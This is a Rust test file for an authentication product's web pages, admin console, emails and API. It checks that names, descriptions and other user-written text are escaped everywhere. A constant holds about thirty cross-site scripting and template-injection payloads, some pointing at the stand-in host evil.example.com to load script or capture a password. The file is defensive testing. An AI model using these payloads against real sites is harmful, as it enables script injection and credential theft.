//! Class 16: what people call themselves, their devices, their keys and their reasons is
//! text wherever it is shown: on every page, to themselves and to administrators, in
//! messages, and in what the API says.

use ::http::Method;
use keyward::testing::{Client, PASSWORD, Response, TestAuth};
use keyward::{Act, ApiKeyTerms, EditPerson, Field, UserView};
use scraper::Html;
use serde_json::json;

use crate::pages::html::Page;

/// Text that became something else elsewhere: in elements, attributes, titles, scripts,
/// styles, templates and text messages.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example.com>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)",
    "` onerror=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example.com><input name=password>",
    "<base href=//evil.example.com>",
    "<meta http-equiv=refresh content=0;url=//evil.example.com>",
    "<link rel=stylesheet href=//evil.example.com>",
    "<math><mtext></p><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "{{ 7*7 }} {% for x in y %} {# c #}",
    "${7*7} <%= 7*7 %> #{7*7} [[7*7]]",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
    "<b>bold</b> & <i>sloping</i>",
];

/// Every element of a page with the names of its attributes: what markup is made of,
/// without a word of text.
fn shape(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let elements = page.root_element().descendants().filter_map(|node| {
        let element = node.value().as_element()?;
        let mut names: Vec<_> = element.attrs().map(|(name, _)| name).collect();
        names.sort_unstable();
        Some(format!("{} {}", element.name(), names.join(" ")))
    });
    elements.collect()
}

/// A house in which all that people may write is `text`.
struct House {
    desk: Client,
    home: Client,
    eve: UserView,
    key: String,
}

async fn house(text: &str) -> House {
    let t = TestAuth::with(|b| {
        b.settings(|s| {
            s.profile = vec![Field::text("city", 200)];
            s.guesses.burst = 1_000;
        })
    })
    .await;
    let root = t.user("root@example.com").await;
    t.give_role(&root, "admin").await;
    let eve = t.user("eve@example.com").await;
    let gone = t.user("gone@example.com").await;
    for user in [&eve, &gone] {
        let edit = EditPerson {
            name: Some(text.into()),
            properties: json!({ "city": text }).as_object().cloned(),
            ..EditPerson::default()
        };
        t.kw.edit_person(user.id, edit).await.unwrap().unwrap();
    }
    let home = t.pages();
    for password in ["wrong", PASSWORD] {
        let body = json!({ "identifier": "eve@example.com", "password": password });
        let request = http::Request::post("/api/v1/sign-in")
            .header("host", "localhost")
            .header("content-type", "application/json")
            .header("sec-fetch-site", "same-origin")
            .header("user-agent", http::HeaderValue::from_bytes(text.as_bytes()).unwrap());
        home.raw(request.body(body.to_string().into()).unwrap()).await;
    }
    let terms = ApiKeyTerms { name: text.chars().take(100).collect(), ..ApiKeyTerms::default() };
    t.kw.create_api_key(eve.id, terms).await.unwrap().unwrap();
    t.kw.act_on(gone.id, Act::Lock { reason: text.into() }).await.unwrap().unwrap();
    let desk = t.pages().login_as(&root).await;
    let described = json!({ "name": "writer", "description": text });
    for path in ["/api/v1/admin/roles", "/api/v1/admin/groups"] {
        let made = desk.post(path, &described).await;
        assert!(made.status().is_success(), "{path} {text}: {}", made.text());
    }
    let key = gone.id.to_string();
    House { desk, home, eve, key }
}

impl House {
    /// Every page that shows any of it, to whom it is shown.
    async fn pages(&self) -> Vec<(String, Response)> {
        let (eve, gone) = (self.eve.id.to_string(), &self.key);
        let admin = [
            "/admin/people".into(),
            format!("/admin/people/{eve}"),
            format!("/admin/people/{gone}"),
            "/admin/roles".into(),
            "/admin/roles/writer".into(),
            "/admin/groups".into(),
            "/admin/groups/writer".into(),
            "/admin/matrix".into(),
            "/admin/audit".into(),
            "/admin/messages".into(),
            "/admin/invitations".into(),
            "/admin/who?permission=users:view".into(),
            format!("/admin/check?subject={eve}&permission=users:view"),
            "/account".into(),
        ];
        let own = [
            "/account",
            "/account/sessions",
            "/account/activity",
            "/account/api-keys",
            "/account/data",
            "/account/password",
            "/account/totp",
            "/account/passkeys",
            "/account/email",
            "/account/step-up",
        ];
        let mut all = vec![];
        for path in admin {
            all.push((format!("admin {path}"), self.desk.page(&path).await));
        }
        for path in own {
            all.push((format!("own {path}"), self.home.page(path).await));
        }
        all
    }
}

#[tokio::test]
async fn what_people_write_is_text_on_every_page() {
    let plain = house("plain").await;
    let wanted = plain.pages().await;
    for (path, reply) in &wanted {
        assert_eq!(reply.status(), 200, "{path}: {}", reply.text());
    }
    let shown = |all: &[(String, Response)], text: &str| {
        let on = |(_, reply): &&(String, Response)| {
            let page = Html::parse_document(reply.text());
            page.root_element().text().collect::<String>().contains(text)
        };
        all.iter().filter(on).count()
    };
    let count = shown(&wanted, "plain");
    assert!(count >= 8, "it is shown on many pages: {count}");
    for &text in MARKUP.iter().filter(|text| text.chars().count() <= 200) {
        let pages = house(text).await.pages().await;
        for ((path, reply), (_, plain)) in pages.iter().zip(&wanted) {
            Page::of(reply);
            let (mut seen, mut wanted) = (shape(reply.text()), shape(plain.text()));
            // What goes on behind a request shows there: rows come, and marks on them.
            if path.contains("/admin/audit") || path.contains("/admin/messages") {
                let names = |all: Vec<String>| -> std::collections::BTreeSet<String> {
                    all.iter().filter_map(|it| it.split(' ').next().map(str::to_owned)).collect()
                };
                let strange: Vec<_> = names(seen).difference(&names(wanted)).cloned().collect();
                assert!(strange.iter().all(|name| name == "span"), "{path}: {text}: {strange:?}");
                continue;
            }
            // What happened at one moment is told in any order.
            seen.sort();
            wanted.sort();
            assert_eq!(seen, wanted, "{path}: {text}");
        }
        assert!(shown(&pages, text) >= 4, "as it was written: {text}");
    }
}

#[tokio::test]
async fn what_stands_in_an_address_or_a_form_is_text_on_the_page_that_answers() {
    let t = TestAuth::with(|b| b.settings(|s| s.guesses.burst = 10_000)).await;
    let root = t.user("root@example.com").await;
    t.give_role(&root, "admin").await;
    let desk = t.pages().login_as(&root).await;
    let stranger = t.pages();
    for &text in MARKUP {
        let mut all = by_address(&stranger, &desk, text).await;
        all.extend(by_form(&stranger, &desk, text).await);
        for (path, reply) in all {
            assert!(!reply.status().is_server_error(), "{path} {text}: {}", reply.text());
            if !reply.text().starts_with("<!") {
                continue;
            }
            Page::of(&reply);
            let strange = shape(reply.text()).into_iter().find(|element| {
                let name = element.split(' ').next().unwrap_or_default();
                matches!(name, "img" | "iframe" | "base" | "math" | "b" | "i" | "style" | "object")
                    || element.starts_with("script") && !element.contains("src")
                    || element.starts_with("meta") && element.contains("http-equiv")
            });
            assert_eq!(strange, None, "{path} {text}");
        }
    }
}

/// What pages answer to an address with this in it.
async fn by_address(stranger: &Client, desk: &Client, text: &str) -> Vec<(&'static str, Response)> {
    let encoded = percent(text);
    let mut all = vec![];
    for path in [
        "/login?notice={}",
        "/login?lang={}",
        "/login?return_to=/{}",
        "/{}",
        "/verify/{}",
        "/restore/{}",
        "/invite/{}",
        "/undo/{}",
        "/recover/stop/{}",
        "/login?{}=1",
    ] {
        all.push((path, stranger.page(&path.replace("{}", &encoded)).await));
    }
    for path in [
        "/admin/people?q={}",
        "/admin/audit?kind={}",
        "/admin/who?permission={}",
        "/admin/check?subject={}&permission={}",
        "/admin/people/{}",
        "/admin/roles/{}",
        "/admin/groups/{}",
        "/admin/people?cursor={}",
        "/admin/acl/{}",
    ] {
        all.push((path, desk.page(&path.replace("{}", &encoded)).await));
    }
    all
}

/// What pages answer to a form with this in it.
async fn by_form(stranger: &Client, desk: &Client, text: &str) -> Vec<(&'static str, Response)> {
    let mut all = vec![];
    for (path, fields) in [
        ("/login", vec![("username", text), ("password", text)]),
        ("/signup", vec![("email", text), ("name", text), ("password", text)]),
        ("/recover", vec![("identifier", text), ("captcha", text)]),
        ("/login/link", vec![("identifier", text), (text, text)]),
        ("/login/mfa", vec![("flow", text), ("method", text), ("code", text)]),
    ] {
        all.push((path, stranger.form(path, &fields).await));
    }
    for (path, fields) in [
        ("/admin/roles", vec![("name", text), ("description", text)]),
        ("/admin/groups", vec![("name", text), ("description", text)]),
        ("/admin/invitations", vec![("email", text), ("roles", text)]),
        ("/account", vec![("name", text), ("x", text)]),
        ("/account/api-keys", vec![("name", "n"), ("permissions", text), ("days", text)]),
    ] {
        all.push((path, desk.form(path, &fields).await));
    }
    all
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[tokio::test]
async fn what_people_write_is_no_markup_in_messages() {
    for &text in MARKUP.iter().filter(|text| text.chars().count() <= 200) {
        let mut shapes = vec![];
        for name in ["plain", text] {
            let t = TestAuth::new().await;
            let body = json!({ "email": "eve@example.com", "name": name, "password": PASSWORD });
            assert_eq!(t.pages().post("/api/v1/sign-up", &body).await.status(), 202, "{name}");
            t.pages().post("/api/v1/sign-up", &body).await;
            t.pages().post("/api/v1/recovery", &json!({ "identifier": "eve@example.com" })).await;
            while t.deliver().await > 0 {}
            let all = t.kw.inbox().unwrap().all();
            assert!(all.len() >= 2);
            for mail in all {
                assert!(!mail.subject.contains(['\r', '\n']) && !mail.html.contains("<script"));
                shapes.push((name == "plain", shape(&mail.html)));
            }
        }
        let (plain, other): (Vec<_>, Vec<_>) = shapes.into_iter().partition(|(plain, _)| *plain);
        let shapes =
            |all: Vec<(bool, Vec<String>)>| all.into_iter().map(|it| it.1).collect::<Vec<_>>();
        // In whatever order they were sent.
        let (mut plain, mut other) = (shapes(plain), shapes(other));
        plain.sort();
        other.sort();
        assert_eq!(plain, other, "{text}");
    }
}

/// A browser that takes an answer of the API for a page runs nothing.
#[tokio::test]
async fn answers_of_the_api_are_data_whatever_stands_in_them() {
    let text = "<script>alert(1)</script>";
    let House { desk, home, eve, .. } = house(text).await;
    let edit = json!({ "name": text });
    let patched = home.json(Method::PATCH, "/api/v1/me", &edit).await;
    assert!(patched.status().is_success(), "{}", patched.text());
    let own = home.get("/api/v1/me").await;
    let seen = desk.get(&format!("/api/v1/admin/users/{}", eve.id)).await;
    let wrong = home.post("/api/v1/sign-in", &json!({ text: text })).await;
    let nowhere = desk.get("/api/v1/admin/users/%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
    for reply in [own, seen, wrong, nowhere] {
        let header = |name: &str| reply.headers()[name].to_str().unwrap().to_owned();
        let kind = header("content-type");
        assert!(matches!(&*kind, "application/json" | "application/problem+json"), "{kind}");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(header("content-security-policy").starts_with("default-src 'none'"));
        assert!(reply.json().is_object(), "{}", reply.text());
    }
}
